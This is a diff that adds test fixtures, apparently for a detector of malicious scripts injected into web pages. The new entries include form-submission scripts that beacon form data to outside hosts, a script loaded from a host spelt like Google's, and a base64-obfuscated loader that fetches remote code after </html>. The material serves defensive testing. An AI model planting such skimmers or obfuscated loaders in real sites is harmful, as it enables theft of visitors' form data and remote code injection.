@@ -571,6 +571,15 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
             "addEventListener('submit',function(e){if(!e.target.matches('.newsletter'))return;"
             "e.preventDefault();navigator.sendBeacon('https://api.harbourgazette-media.example/"
             "v1/newsletter',new FormData(e.target));});</script>")}, "form-skimmer", L),
+    ("a site's ajax-forms code bound to its own forms by class", {"footer": (
+        "<form class='js-ajax'><input name='email'></form><script>document.querySelectorAll("
+        "'form.js-ajax').forEach(function(f){f.addEventListener('submit',function(e){e."
+        "preventDefault();navigator.sendBeacon('https://api.formrelay.example/submit',new "
+        "FormData(f));});});</script>")}, "form-skimmer", M),
+    ("a delegated change listener that picks its field by name", {"footer": (
+        "<script>document.addEventListener('change',function(e){if(e.target.name!=='email')"
+        "return;navigator.sendBeacon('https://api.formrelay.example/lead',new FormData(e.target"
+        ".form));});</script>")}, "form-skimmer", M),
     ("UserWay's accessibility widget after </html>", {"after": (
         '<script src="https://cdn.userway.org/widget.js" data-account="Xk29PqLm7a"></script>')},
      "appended-script", M),
@@ -646,6 +655,12 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
      "appended-script"),
     ("a script after </html> from a bare IP address", {"after": (
         '<script src="http://203.0.113.77/j.js"></script>')}, "appended-script"),
+    ("a script after </html> on a host spelt like Google's", {"after": (
+        "<script src='https://g00gle-analytics.test/ga.js'></script>")}, "appended-script"),
+    ("a loader after </html> whose address is base64", {"after": (
+        "<script>var s=document.createElement('script');s.src=atob('"
+        + _b64("https://qwzx.test/x.js") + "');document.head.appendChild(s);</script>")},
+     "appended-script"),
     ("a script after </html> on a host dressed as a CDN", {"after": (
         '<script src="https://static-cdn-libs.test/min.js"></script>')}, "appended-script"),
 ]
